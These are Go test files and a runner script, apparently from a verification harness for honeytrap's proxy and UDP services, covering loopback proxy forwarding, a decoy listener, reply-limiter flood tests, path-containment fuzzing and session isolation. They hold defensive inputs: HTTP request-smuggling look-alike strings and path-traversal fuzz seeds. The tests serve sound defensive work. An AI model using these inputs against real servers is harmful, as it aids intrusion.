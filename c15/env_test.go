package c15

import (
	"fmt"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/honeytrap/honeytrap/storage"

	"verif/lab"
	"verif/vlib"
)

const prop = "C15"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

// labEnv is the one server instance of this test process (a stopped socket-listener
// server leaks its listening sockets, so it is started once and reused by every case)
// together with the loopback backends the forward directors point at and the decoy.
type labEnv struct {
	srv *lab.Server
	cap *lab.Capture

	// ports the proxy services listen on (127.0.0.1)
	httpPort  int // http-proxy, director host carries a port
	// one director whose host ("127.0.0.2") carries no port is shared by two http-proxy
	// services and a copy service on three listening ports: the backend port is the port
	// of the incoming connection, so each port has its own backend at 127.0.0.2:<port>
	http2Port int
	http3Port int
	copy2Port int
	sshPort   int
	copyPort  int // copy, tcp
	copyUPort int // copy, udp
	dnsPort   int // dns-proxy, udp + tcp

	httpB  *httpBackend // 127.0.0.1:<own port>
	http2B *httpBackend // 127.0.0.2:<http2Port>
	http3B *httpBackend // 127.0.0.2:<http3Port>
	copyB2 *tcpBackend  // 127.0.0.2:<copy2Port>
	sshB   *sshBackend
	copyB  *tcpBackend
	copyUB *udpBackend
	dnsUB  *udpBackend
	dnsTB  *dnsTCPBackend
	decoy  *decoy
}

var (
	envOnce sync.Once
	envVal  *labEnv
	envErr  error
	epochN  int64
)

// nextEpoch numbers the cases of this process; the number is woven into the
// correlation tags (HTTP path prefix, SSH user prefix, first stream byte) so that
// late traffic of an earlier (failed) case can never be mistaken for the current one.
func nextEpoch() int { return int(atomic.AddInt64(&epochN, 1)) }

func getEnv(t testing.TB) *labEnv {
	envOnce.Do(func() {
		for attempt := 0; attempt < 3; attempt++ {
			envVal, envErr = startEnv()
			if envErr == nil {
				return
			}
		}
	})
	if envErr != nil {
		t.Fatalf("infra: cannot start the lab: %v", envErr)
	}
	return envVal
}

func listenTCP(addr string) (*net.TCPListener, int, error) {
	l, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, 0, err
	}
	return l.(*net.TCPListener), l.Addr().(*net.TCPAddr).Port, nil
}

// Server ports are taken from below the kernel's ephemeral range (32768..60999 here):
// a port found free and released is otherwise handed out again, within the moment it
// takes the server to bind it, to somebody's outgoing connection or ":0" listener on
// this busy machine - and the harness would talk to a stranger. The starting point
// depends on the process so that concurrent runs look at different ports, and after
// start-up ownListener verifies that the listeners are really this process's.
var portCursor = 20000 + (os.Getpid()*7919)%11000

func freeServerPort(taken map[int]bool, alsoOn string) (int, error) {
	for i := 0; i < 4000; i++ {
		p := portCursor
		portCursor++
		if portCursor >= 32000 {
			portCursor = 20000
		}
		if taken[p] {
			continue
		}
		l, _, err := listenTCP(fmt.Sprintf("127.0.0.1:%d", p))
		if err != nil {
			continue
		}
		l.Close()
		u, err := net.ListenPacket("udp", fmt.Sprintf("127.0.0.1:%d", p))
		if err != nil {
			continue
		}
		u.Close()
		if alsoOn != "" {
			l, _, err := listenTCP(fmt.Sprintf("%s:%d", alsoOn, p))
			if err != nil {
				continue
			}
			l.Close()
		}
		taken[p] = true
		return p, nil
	}
	return 0, fmt.Errorf("no free port")
}

// ownListener reports whether this process holds a socket bound to 127.0.0.1:port
// (listening, for tcp).
func ownListener(proto string, port int) bool {
	data, err := os.ReadFile("/proc/net/" + proto)
	if err != nil {
		return true // cannot tell: do not block the run
	}
	want := fmt.Sprintf("0100007F:%04X", port)
	inodes := map[string]bool{}
	for _, ln := range strings.Split(string(data), "\n")[1:] {
		f := strings.Fields(ln)
		if len(f) < 10 || f[1] != want {
			continue
		}
		if proto == "tcp" && f[3] != "0A" {
			continue
		}
		inodes["socket:["+f[9]+"]"] = true
	}
	if len(inodes) == 0 {
		return false
	}
	ents, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return true
	}
	for _, ent := range ents {
		if l, err := os.Readlink("/proc/self/fd/" + ent.Name()); err == nil && inodes[l] {
			return true
		}
	}
	return false
}

func startEnv() (*labEnv, error) {
	e := &labEnv{}
	dir, err := os.MkdirTemp("", "c15data")
	if err != nil {
		return nil, err
	}
	// the ssh-proxy service loads / generates its host key from the process-wide store
	storage.SetDataDir(dir)

	taken := map[int]bool{}
	var ports [5]int
	for i := range ports {
		if ports[i], err = freeServerPort(taken, ""); err != nil {
			return nil, err
		}
	}
	e.httpPort, e.sshPort, e.copyPort, e.copyUPort, e.dnsPort = ports[0], ports[1], ports[2], ports[3], ports[4]

	// backends
	if e.httpB, err = newHTTPBackend("127.0.0.1:0"); err != nil {
		return nil, err
	}
	// host-only director: the backend must listen on the port number the proxy
	// service listens on, at another loopback address
	if e.http2Port, err = freeServerPort(taken, "127.0.0.2"); err != nil {
		return nil, err
	}
	if e.http2B, err = newHTTPBackend(fmt.Sprintf("127.0.0.2:%d", e.http2Port)); err != nil {
		return nil, err
	}
	if e.http3Port, err = freeServerPort(taken, "127.0.0.2"); err != nil {
		return nil, err
	}
	if e.http3B, err = newHTTPBackend(fmt.Sprintf("127.0.0.2:%d", e.http3Port)); err != nil {
		return nil, err
	}
	if e.copy2Port, err = freeServerPort(taken, "127.0.0.2"); err != nil {
		return nil, err
	}
	if e.copyB2, err = newTCPBackend(fmt.Sprintf("127.0.0.2:%d", e.copy2Port)); err != nil {
		return nil, err
	}
	if e.sshB, err = newSSHBackend("127.0.0.1:0"); err != nil {
		return nil, err
	}
	if e.copyB, err = newTCPBackend("127.0.0.1:0"); err != nil {
		return nil, err
	}
	if e.copyUB, err = newUDPBackend("127.0.0.1:0"); err != nil {
		return nil, err
	}
	// dns backend: udp and tcp on one port number
	for i := 0; ; i++ {
		tb, err := newDNSTCPBackend("127.0.0.1:0")
		if err != nil {
			return nil, err
		}
		ub, err := newUDPBackend(fmt.Sprintf("127.0.0.1:%d", tb.port))
		if err == nil {
			e.dnsTB, e.dnsUB = tb, ub
			break
		}
		tb.close()
		if i > 50 {
			return nil, fmt.Errorf("no port free for the dns backend")
		}
	}
	if e.decoy, err = newDecoy(); err != nil {
		return nil, err
	}

	id := lab.NextID()
	capID := fmt.Sprintf("c15-%d-%s-cap", os.Getpid(), id)
	var b strings.Builder
	fmt.Fprintf(&b, "[listener]\ntype=\"socket\"\n\n[channel.cap]\ntype=\"verif-capture\"\nid=%q\n\n[[filter]]\nchannel=[\"cap\"]\n\n", capID)
	dir2 := func(name, host string) {
		fmt.Fprintf(&b, "[director.%s]\ntype=\"forward\"\nhost=%q\n\n", name, host)
	}
	dir2("dhttp", fmt.Sprintf("127.0.0.1:%d", e.httpB.port))
	dir2("dhttp2", "127.0.0.2")
	dir2("dssh", fmt.Sprintf("127.0.0.1:%d", e.sshB.port))
	dir2("dcopy", fmt.Sprintf("127.0.0.1:%d", e.copyB.port))
	dir2("dcopyu", fmt.Sprintf("127.0.0.1:%d", e.copyUB.port))
	dir2("ddns", fmt.Sprintf("127.0.0.1:%d", e.dnsUB.port))
	svc := func(name, typ, director string) {
		fmt.Fprintf(&b, "[service.%s]\ntype=%q\ndirector=%q\n\n", name, typ, director)
	}
	svc("hp1", "http-proxy", "dhttp")
	svc("hp2", "http-proxy", "dhttp2")
	svc("hp3", "http-proxy", "dhttp2")
	svc("cpt2", "copy", "dhttp2")
	svc("sshp", "ssh-proxy", "dssh")
	svc("cpt", "copy", "dcopy")
	svc("cpu", "copy", "dcopyu")
	svc("dnsp", "dns-proxy", "ddns")
	port := func(proto string, p int, service string) {
		fmt.Fprintf(&b, "[[port]]\nport=\"%s/127.0.0.1:%d\"\nservices=[%q]\n\n", proto, p, service)
	}
	// udp first: the socket listener binds in configuration order and readiness is
	// probed on the tcp ports
	port("udp", e.copyUPort, "cpu")
	port("udp", e.dnsPort, "dnsp")
	port("tcp", e.dnsPort, "dnsp")
	port("tcp", e.copyPort, "cpt")
	port("tcp", e.sshPort, "sshp")
	port("tcp", e.copy2Port, "cpt2")
	port("tcp", e.http3Port, "hp3")
	port("tcp", e.http2Port, "hp2")
	port("tcp", e.httpPort, "hp1")

	srv, err := lab.StartSocket(id, b.String())
	if err != nil {
		return nil, err
	}
	e.srv = srv
	e.cap = lab.GetCapture(capID)
	if e.cap == nil {
		return nil, fmt.Errorf("capture channel was not constructed")
	}
	for _, p := range []int{e.dnsPort, e.copyPort, e.sshPort, e.copy2Port, e.http3Port, e.http2Port, e.httpPort} {
		deadline := time.Now().Add(15 * time.Second)
		for {
			c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", p), time.Second)
			if err == nil {
				c.Close()
				break
			}
			if time.Now().After(deadline) {
				return nil, fmt.Errorf("proxy port %d never became connectable: %v", p, err)
			}
			time.Sleep(5 * time.Millisecond)
		}
	}
	for _, p := range []int{e.dnsPort, e.copyPort, e.sshPort, e.copy2Port, e.http3Port, e.http2Port, e.httpPort} {
		if !ownListener("tcp", p) {
			return nil, fmt.Errorf("tcp port %d is not served by this process's server (taken by somebody else in the meantime)", p)
		}
	}
	for _, p := range []int{e.copyUPort, e.dnsPort} {
		if !ownListener("udp", p) {
			return nil, fmt.Errorf("udp port %d is not served by this process's server", p)
		}
	}
	// the probes made the proxies dial their backends; let that settle and forget it
	time.Sleep(150 * time.Millisecond)
	if n := e.decoy.count(); n != 0 {
		return nil, fmt.Errorf("decoy was contacted during start-up")
	}
	return e, nil
}

func (e *labEnv) addr(port int) string { return fmt.Sprintf("127.0.0.1:%d", port) }

// decoy is a loopback address (tcp + udp) nothing is configured to talk to; client
// requests name it (Host header) to tempt a proxy that trusts client-supplied addresses.
type decoy struct {
	l    *net.TCPListener
	u    net.PacketConn
	port int
	mu   sync.Mutex
	seen []string
}

func newDecoy() (*decoy, error) {
	for i := 0; i < 50; i++ {
		l, p, err := listenTCP("127.0.0.1:0")
		if err != nil {
			return nil, err
		}
		u, err := net.ListenPacket("udp", fmt.Sprintf("127.0.0.1:%d", p))
		if err != nil {
			l.Close()
			continue
		}
		d := &decoy{l: l, u: u, port: p}
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				d.mu.Lock()
				d.seen = append(d.seen, "tcp connection from "+c.RemoteAddr().String())
				d.mu.Unlock()
				c.Close()
			}
		}()
		go func() {
			buf := make([]byte, 65535)
			for {
				n, a, err := u.ReadFrom(buf)
				if err != nil {
					return
				}
				d.mu.Lock()
				d.seen = append(d.seen, fmt.Sprintf("udp datagram (%d bytes) from %s", n, a))
				d.mu.Unlock()
			}
		}()
		return d, nil
	}
	return nil, fmt.Errorf("no free port for the decoy")
}

func (d *decoy) count() int {
	d.mu.Lock()
	defer d.mu.Unlock()
	return len(d.seen)
}

func (d *decoy) last() string {
	d.mu.Lock()
	defer d.mu.Unlock()
	if len(d.seen) == 0 {
		return ""
	}
	return d.seen[len(d.seen)-1]
}

func (d *decoy) host() string { return fmt.Sprintf("127.0.0.1:%d", d.port) }

// ---- shared helpers ----

// clientIP: client ci dials from its own loopback address, so that the proxy host
// (127.0.0.1) and the clients are told apart in events and at the backends.
func clientIP(ci int) net.IP { return net.IPv4(127, 0, 0, byte(3+ci)) }

// ipBindAddressNoPort is Linux's IP_BIND_ADDRESS_NO_PORT: bind the source address now,
// pick the port at connect time per destination. A plain bind(addr:0) reserves the
// port for the whole namespace (also through TIME_WAIT) and starves the auto-binding
// connect() calls of everybody else - the proxy's dials to the backend included.
const ipBindAddressNoPort = 24

func dialTCPFrom(ci int, addr string) (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second, LocalAddr: &net.TCPAddr{IP: clientIP(ci)},
		Control: func(network, address string, c syscall.RawConn) error {
			var serr error
			if err := c.Control(func(fd uintptr) {
				serr = syscall.SetsockoptInt(int(fd), syscall.IPPROTO_IP, ipBindAddressNoPort, 1)
			}); err != nil {
				return err
			}
			return serr
		}}
	return d.Dial("tcp", addr)
}

// guard re-runs a check whose failure is the harness's own (cannot dial, ...).
func guard(check func() error) error {
	var err error
	for i := 0; i < 4; i++ {
		if err = check(); !isInfra(err) {
			return err
		}
		time.Sleep(time.Duration(i+1) * time.Second)
	}
	return err
}

// infraExit ends the process the way the driver maps to "inconclusive": an INFRA line,
// no VIOLATION line, non-zero exit.
func infraExit(err error) {
	fmt.Printf("INFRA: %v\n", err)
	vlib.Open(prop).Close()
	os.Exit(2)
}

// fromProxyHost checks the peer addresses a backend saw.
func fromProxyHost(remotes []string) error {
	for _, ra := range remotes {
		if !strings.HasPrefix(ra, "127.0.0.1:") {
			return fmt.Errorf("backend saw a connection from %s, not from the proxy host 127.0.0.1 (clients dial from 127.0.0.3..5)", ra)
		}
	}
	return nil
}

// bodySpec describes a byte string compactly (replay files stay small): the bytes are
// a fixed function of (Kind, Seed, Len).
type bodySpec struct {
	Len  int `json:"len"`
	Seed int `json:"seed"`
	Kind int `json:"kind"` // 0 pseudo-random bytes, 1 text lines, 2 protocol look-alikes
}

var lookalikes = []string{
	"GET /smuggled HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
	"0\r\n\r\n",
	"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello",
	"5\r\nabcde\r\n",
	"\r\n\r\n",
	"POST / HTTP/1.1\r\nContent-Length: 100000\r\n\r\n",
	"SSH-2.0-x\r\n",
}

func (b bodySpec) bytes() []byte {
	out := make([]byte, 0, b.Len)
	x := uint64(b.Seed)*0x9E3779B97F4A7C15 + 0x1234567
	next := func() uint64 {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		return x
	}
	switch b.Kind {
	case 1:
		for len(out) < b.Len {
			n := int(next()%60) + 1
			for i := 0; i < n; i++ {
				out = append(out, byte('a'+next()%26))
			}
			out = append(out, '\r', '\n')
		}
	case 2:
		for len(out) < b.Len {
			out = append(out, lookalikes[int(next()%uint64(len(lookalikes)))]...)
		}
	default:
		for len(out) < b.Len {
			v := next()
			for i := 0; i < 8; i++ {
				out = append(out, byte(v>>(8*uint(i))))
			}
		}
	}
	return out[:b.Len]
}

// split cuts p at the given ascending offsets (offsets outside (0,len) are ignored).
func split(p []byte, cuts []int) [][]byte {
	var out [][]byte
	last := 0
	for _, c := range cuts {
		if c > last && c < len(p) {
			out = append(out, p[last:c])
			last = c
		}
	}
	return append(out, p[last:])
}

func short(b []byte) string {
	if len(b) > 60 {
		return fmt.Sprintf("%q...(%d bytes)", b[:60], len(b))
	}
	return fmt.Sprintf("%q", b)
}

// firstDiff describes where two byte strings differ.
func firstDiff(got, want []byte) string {
	n := len(got)
	if len(want) < n {
		n = len(want)
	}
	for i := 0; i < n; i++ {
		if got[i] != want[i] {
			return fmt.Sprintf("lengths got=%d want=%d, first difference at offset %d (got %q want %q)", len(got), len(want), i, got[i:minInt(i+16, len(got))], want[i:minInt(i+16, len(want))])
		}
	}
	return fmt.Sprintf("lengths got=%d want=%d, common prefix equal", len(got), len(want))
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}

func isInfra(err error) bool { return err != nil && strings.HasPrefix(err.Error(), "infra:") }

// timeoutErr marks failures whose evidence is "it did not arrive within the bound";
// they are re-measured once before they are reported.
type timeoutErr struct{ msg string }

func (e *timeoutErr) Error() string { return e.msg }

func isNetTimeout(err error) bool {
	ne, ok := err.(net.Error)
	return ok && ne.Timeout()
}

// waitBound is how long an expected relay may take on loopback before it counts as
// lost (the proxy's own idle timeout is 30 s; the services never wait on purpose).
const waitBound = 8 * time.Second

// clientEvents returns the events captured since mark that are attributed to addr
// (source-ip + source-port, or remote-addr).
func clientEvents(evs []lab.Ev, mark int, addr net.Addr) []lab.Ev {
	var ip string
	var port int
	switch a := addr.(type) {
	case *net.TCPAddr:
		ip, port = a.IP.String(), a.Port
	case *net.UDPAddr:
		ip, port = a.IP.String(), a.Port
	}
	var out []lab.Ev
	for _, e := range evs {
		if e.Seq < mark {
			continue
		}
		if e.Str("remote-addr") == addr.String() || (e.Str("source-ip") == ip && e.Str("source-port") == fmt.Sprint(port)) {
			out = append(out, e)
		}
	}
	return out
}

var _ = vlib.JSON
