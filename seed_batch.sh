#!/bin/bash
# seed_batch.sh ID...  - run seedcheck for every delivered seed of the given properties
cd /verif
for ID in "$@"; do
  for N in 1 2 3; do
    [ -f ${SEED_SRC_PREFIX:-/tmp/seed-}$ID/SEEDED/$N/patch.diff ] || continue
    echo "######## $ID-${SEED_TAG:-}$N"
    ./seedcheck.sh $ID $N
  done
done
