package c11

import (
	"os"
	"strings"
	"testing"
)

// FuzzRealPath: coverage-guided search over (directory-change history, path) strings with
// the lexical containment oracle of checkPath.
func FuzzRealPath(f *testing.F) {
	dir, _ := os.MkdirTemp("", "c11fz")
	fs, root, err := newFs(dir)
	if err != nil {
		f.Skip("infra: " + err.Error())
	}
	f.Cleanup(func() { os.RemoveAll(dir) })
	for _, s := range []string{"a", "../..", "/../a", "a/b/../../..", "//", "..\x00", "a\n..\n/../rootx/a", "/a/b\n../../../..//a/./b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		if len(in) > 4096 {
			return
		}
		parts := strings.Split(in, "\n")
		c := pathCase{Path: parts[len(parts)-1]}
		if len(parts) > 1 {
			c.Cwd = parts[:len(parts)-1]
			if len(c.Cwd) > 6 {
				c.Cwd = c.Cwd[:6]
			}
		}
		resetCwd(fs)
		if err := checkPath(fs, root, c); err != nil {
			t.Fatalf("%v (case %q)", err, in)
		}
	})
}
