package c04

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/lab"
	"verif/svc"
	"verif/vlib"
)

// ---------------------------------------------------------------- many datagrams from ONE source IP
//
// "each datagram sent to a configured UDP service is decoded and reported on its own" does
// not depend on how many datagrams the same host sent before. The UDP services keep a
// per-source-IP limiter (burst 4, one token per 10 minutes) that bounds their REPLIES
// (property C10). TestUDP / TestUDPSocketBurst give every datagram a fresh source IP, so
// the history "more than 4 datagrams of one host" was never generated.
//
// Per service (unchanged tree): dns has no limiter; snmp, counterstrike and memcached
// report the datagram first and consult the limiter before replying -> every datagram must
// be reported, whatever its position. memcached consults the limiter once per command
// line and stops reading the datagram when it denies, so the datagrams here carry one
// command line each (one event per datagram, nothing asserted about further lines of an
// over-limit datagram). tftp consults the limiter BEFORE decoding (documented in the
// handler as its amplification defence): what it reports beyond the burst is not
// something the statement + unchanged code let us assert, so tftp is not in this test.
var floodServices = []string{"dns", "snmp", "memcached", "counterstrike"}

type floodCase struct {
	Service string   `json:"service"`
	Ports   string   `json:"ports"` // same | distinct
	Pace    string   `json:"pace"`  // lockstep (wait for each datagram's events) | burst (all, then wait)
	Dgrams  []cmdRec `json:"datagrams"`
}

// one datagram of the service's grammar (memcached: exactly one command line)
func genFloodDatagram(t *rapid.T, service string) svc.Cmd {
	if service == "memcached" {
		hdr := []byte{0, byte(rapid.IntRange(0, 255).Draw(t, "reqid")), 0, 0, 0, 1, 0, 0}
		l := rapid.SampledFrom([]string{"stats", "get a", "version", "flush_all", "stats items", "get " + strings.Repeat("k", rapid.IntRange(1, 20).Draw(t, "keylen"))}).Draw(t, "mcline")
		return svc.Cmd{Name: "mc", Wire: append(hdr, []byte(l+"\r\n")...), Exp: []svc.Expect{match("type", "memcached-command", "memcached.command", l, "protocol", "udp")}}
	}
	for {
		d := svc.GenUDP(t, service)
		if len(d.Cmds) > 0 {
			return d.Cmds[0]
		}
	}
}

const floodWait = 15 * time.Second

func checkFlood(c floodCase) error {
	in, err := svc.Shared()
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	// a source IP no other case uses: the limiter state of this host starts fresh
	ip, port0 := svc.NextClient()
	portOf := func(i int) int {
		if c.Ports == "same" {
			return port0
		}
		return 1024 + (port0+i*7)%60000
	}
	trackedOf := func(all []lab.Ev, port int) []lab.Ev {
		return tracked(c.Service, lab.From(all, ip.String(), port))
	}
	cmds := make([]svc.Cmd, len(c.Dgrams))
	for i, x := range c.Dgrams {
		cmds[i] = svc.Cmd{Name: x.Name, Wire: vlib.UnHex(x.Wire), Exp: x.Exp}
	}
	send := func(i int) {
		sc := &svc.Script{Service: c.Service, UDP: true, Steps: []svc.Step{{Data: cmds[i].Wire}}, SrcIP: ip, SrcPort: portOf(i)}
		in.RunOne(sc, 0)
	}
	verdict := func(i int, got []lab.Ev) error {
		for _, e := range got {
			if e.SerErr != "" {
				return fmt.Errorf("event does not serialise: %s", e.SerErr)
			}
		}
		if err := svc.Compare(cmds[i].Exp, got); err != nil {
			return fmt.Errorf("[%s: datagram %d of %d from one source IP (%s ports, %s) %s] %v", c.Service, i+1, len(cmds), c.Ports, c.Pace, cmds[i].Name, err)
		}
		return nil
	}
	if c.Pace == "burst" {
		// all datagrams back to back (distinct ports, so that each one's events are told apart
		// without relying on an order between concurrently running handlers)
		for i := range cmds {
			send(i)
		}
		in.Cap.WaitFor(floodWait, func(all []lab.Ev) bool {
			for i := range cmds {
				if len(trackedOf(all, portOf(i))) < len(cmds[i].Exp) {
					return false
				}
			}
			return true
		})
		time.Sleep(3 * time.Millisecond)
		all := in.Cap.Events()
		for i := range cmds {
			if err := verdict(i, trackedOf(all, portOf(i))); err != nil {
				return err
			}
		}
		return nil
	}
	seen := 0 // same-port mode: events of the shared address accumulate
	for i := range cmds {
		send(i)
		want := len(cmds[i].Exp)
		if c.Ports == "same" {
			want += seen
		}
		in.Cap.WaitFor(floodWait, func(all []lab.Ev) bool { return len(trackedOf(all, portOf(i))) >= want })
		time.Sleep(2 * time.Millisecond)
		got := trackedOf(in.Cap.Events(), portOf(i))
		if c.Ports == "same" {
			if len(got) < seen {
				return fmt.Errorf("[%s datagram %d] events disappeared", c.Service, i+1)
			}
			got, seen = got[seen:], len(got)
		}
		if err := verdict(i, got); err != nil {
			return err
		}
	}
	return nil
}

func TestUDPSameSourceFlood(t *testing.T) {
	r := vlib.Open(prop)
	var fc floodCase
	if vlib.ReplayCase("TestUDPSameSourceFlood", &fc) {
		if err := checkFlood(fc); err != nil {
			r.Violation(t, "TestUDPSameSourceFlood", fc, err.Error())
		}
		return
	}
	r.Rule("UDP histories: 2..16 grammar datagrams (count biased around the reply limiter's burst of 4) from ONE source IP - same or distinct source ports, lock-step or back to back - for the services that report before consulting their reply limiter (dns, snmp, counterstrike, memcached with one command line per datagram; not tftp, which limits before decoding); oracle = every datagram's decoded fields in exactly its expected events, whatever its position in the history; non-trivial = more datagrams than the limiter's burst")
	r.Rapid(t, "TestUDPSameSourceFlood", r.Pick(120, 500), func(rt *rapid.T) {
		service := rapid.SampledFrom(floodServices).Draw(rt, "service")
		n := rapid.SampledFrom([]int{2, 4, 5, 5, 6, 8, 9, 12, 16}).Draw(rt, "ndgram")
		c := floodCase{Service: service,
			Ports: rapid.SampledFrom([]string{"same", "distinct"}).Draw(rt, "ports"),
			Pace:  rapid.SampledFrom([]string{"lockstep", "lockstep", "burst"}).Draw(rt, "pace")}
		if c.Pace == "burst" {
			c.Ports = "distinct"
		}
		for i := 0; i < n; i++ {
			x := genFloodDatagram(rt, service)
			c.Dgrams = append(c.Dgrams, cmdRec{x.Name, vlib.Hex(x.Wire), x.Exp, false})
		}
		fp := ""
		if n > 4 {
			fp = vlib.JSON(c)
		}
		r.Case(fmt.Sprintf("udp-one-source/%s/%s", service, c.Pace), fp, func() interface{} {
			return map[string]interface{}{"service": service, "datagrams": n, "ports": c.Ports, "pace": c.Pace}
		})
		if err := checkFlood(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestUDPSameSourceFlood", c, "%v", err)
		}
	})
}
