package c17

import (
	"testing"
)

// FuzzDecoder: the fuzzer's bytes are decoded into a buffer and an operation sequence,
// stepped against the slice-cursor reference model (same oracle as the enumerator).
func FuzzDecoder(f *testing.F) {
	f.Add([]byte{3, 0xa0, 0xa1, 0xa2, 0, 0, 7, 0xfe, 8, 1})
	f.Add([]byte{6, 0xff, 0xff, 1, 2, 3, 4, 6, 6, 0, 1})
	f.Add([]byte{2, 0x80, 0x00, 6, 7, 9, 8, 0xfd})
	f.Fuzz(func(t *testing.T, in []byte) {
		if len(in) == 0 || len(in) > 512 {
			return
		}
		n := int(in[0]) % 64
		if n > len(in)-1 {
			n = len(in) - 1
		}
		buf := append([]byte(nil), in[1:1+n]...)
		rest := in[1+n:]
		var ops []op
		for i := 0; i < len(rest) && len(ops) < 48; i++ {
			k := int(rest[i]) % 9
			o := op{Kind: k}
			if k >= opCopy {
				i++
				if i < len(rest) {
					o.Arg = int(int8(rest[i])) // -128..127
					if rest[i] == 0x80 {
						o.Arg = 1 << 40
					}
				}
			}
			ops = append(ops, o)
		}
		if msg := runSeq(buf, ops); msg != "" {
			t.Fatalf("%s (buffer %x ops %v)", msg, buf, ops)
		}
	})
}
