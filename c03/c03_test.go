package c03

import (
	"bytes"
	"os"
	"regexp"
	"fmt"
	"net"
	"sort"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/lab"
	"verif/svc"
	"verif/vlib"
)

const prop = "C03"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

// One scripted session: complete requests, delivered one per step in lock-step.
type session struct {
	Steps []string `json:"steps_hex"`
	Names []string `json:"names"`
	// End: how the client leaves after its last step: "" = half-close, "reset" = abort.
	// A protocol-level goodbye (QUIT, unbind, ^D ...) is an ordinary last step.
	End string `json:"end,omitempty"`
}

type isoCase struct {
	Service  string    `json:"service"`
	UDP      bool      `json:"udp"`
	Sessions []session `json:"sessions"`
	Order    []int     `json:"order"`   // interleaving: which session performs its next step
	History  int       `json:"history"` // >0: the first History sessions run to completion one after another, the last one is the probe
	// PortSpread 0: every session uses the same client port (from different hosts); 1: alternating ports
	PortSpread int `json:"port_spread"`
	// the vocabulary the sessions share (informational; the steps carry the bytes)
	Shared map[string][]string `json:"shared,omitempty"`
	// Fams: address family of each session's client address (see clientIP); missing = famV4
	Fams []int `json:"fams,omitempty"`
	// Prefix >0: the first Prefix sessions are a history (each runs to completion and is
	// ended before the next one starts); the remaining ones overlap as Order says
	Prefix int `json:"prefix,omitempty"`
	// EarlyClose: an overlapping session is ended as soon as its last step is done
	// instead of staying open until every session is through
	EarlyClose bool `json:"early_close,omitempty"`
}

// Address families a client may come from. The host part is the session slot, so two
// sessions of a case are always different hosts whatever their families.
const (
	famV4          = iota // 10.77.s.9 in the 16-byte form net.IPv4 builds (what dual-stack sockets report)
	famV4Short            // 10.77.s.9 in the 4-byte form (tcp4 / udp4 sockets)
	famV6Global           // 2001:db8:77:s::9
	famV6LinkLocal        // fe80::77:s:9
	famV6ULA              // fd00:77::s:9
	nFam
)

var famNames = []string{"v4", "v4-short", "v6-global", "v6-link-local", "v6-ula"}

func clientIP(slot, fam int) net.IP {
	h := byte(slot + 1)
	switch fam {
	case famV4Short:
		return net.IPv4(10, 77, h, 9).To4()
	case famV6Global:
		return net.IP{0x20, 0x01, 0x0d, 0xb8, 0, 0x77, 0, h, 0, 0, 0, 0, 0, 0, 0, 9}
	case famV6LinkLocal:
		return net.IP{0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x77, 0, h, 0, 9}
	case famV6ULA:
		return net.IP{0xfd, 0, 0, 0x77, 0, 0, 0, 0, 0, 0, 0, 0, 0, h, 0, 9}
	}
	return net.IPv4(10, 77, h, 9)
}

func (c isoCase) fam(i int) int {
	if i < len(c.Fams) {
		return c.Fams[i]
	}
	return famV4
}

// genFams draws the address families of k sessions: all of the usual kind, all of one
// drawn kind, or one drawn per session.
func genFams(t *rapid.T, k int) []int {
	switch rapid.IntRange(0, 3).Draw(t, "fam-mode") {
	case 0:
		return nil
	case 1:
		f := rapid.IntRange(0, nFam-1).Draw(t, "fam-all")
		out := make([]int, k)
		for i := range out {
			out[i] = f
		}
		return out
	}
	out := make([]int, k)
	for i := range out {
		out[i] = rapid.IntRange(0, nFam-1).Draw(t, "fam")
	}
	return out
}

type result struct {
	Out    []byte   // TCP: everything the server wrote on this connection
	Dgrams []string // UDP: replies per datagram
	Events []string // canonical events attributed to this connection's address
	SessID []string // distinct *.sessionid values seen on this connection's events
	Closed bool
}

func sessionKey(e lab.Ev) string {
	for _, k := range svc.SessionKeys {
		if e.Has(k) {
			return e.Str(k)
		}
	}
	return ""
}

// runSessions executes the sessions on ONE fresh server instance in the given order.
func runSessions(c isoCase, which []int, order []int) (map[int]*result, error) {
	res, _, stop, err := runSessionsLive(c, which, order)
	if stop != nil {
		stop()
	}
	return res, err
}

// runSessionsLive also returns a function that re-collects the results (event pumps and
// datagram handlers are asynchronous and have no completion signal) and one that stops
// the instance.
// patience bounds what one run spends on waits that expire. Every wait is generous; when
// the server really has stopped answering a connection (a reply went to another client,
// a datagram was dropped) each further step of a long history would sit out the full
// bound again, so after two expired waits the remaining ones of that run are cut to a
// fraction. An expired wait is never a verdict: only bytes and events are compared, and
// checkIso re-collects them after a long quiet period when any wait expired.
type patience struct{ left time.Duration }

var expiredWaits int // waits that expired since checkIso started (runs are sequential)

func (p *patience) bound(d time.Duration) time.Duration {
	if p.left <= 0 {
		return d / 25
	}
	return d
}

func (p *patience) expired(d time.Duration) {
	p.left -= d
	expiredWaits++
}

func runSessionsLive(c isoCase, which []int, order []int) (map[int]*result, func() map[int]*result, func(), error) {
	in, err := svc.StartInstance([]string{c.Service})
	if err != nil {
		return nil, nil, nil, fmt.Errorf("infra: %v", err)
	}
	pat := &patience{left: 8 * time.Second}
	waitIdle := func(cn *lab.Conn) {
		d := pat.bound(svc.StepTimeout)
		if cn.WaitIdle(d) == lab.Busy {
			pat.expired(d)
		}
	}
	waitClosed := func(cn *lab.Conn) bool {
		d := pat.bound(10 * time.Second)
		ok := cn.WaitClosed(d)
		if !ok {
			pat.expired(d)
		}
		return ok
	}
	type live struct {
		se  *svc.Session
		idx int
	}
	sess := map[int]*live{}
	for _, i := range which {
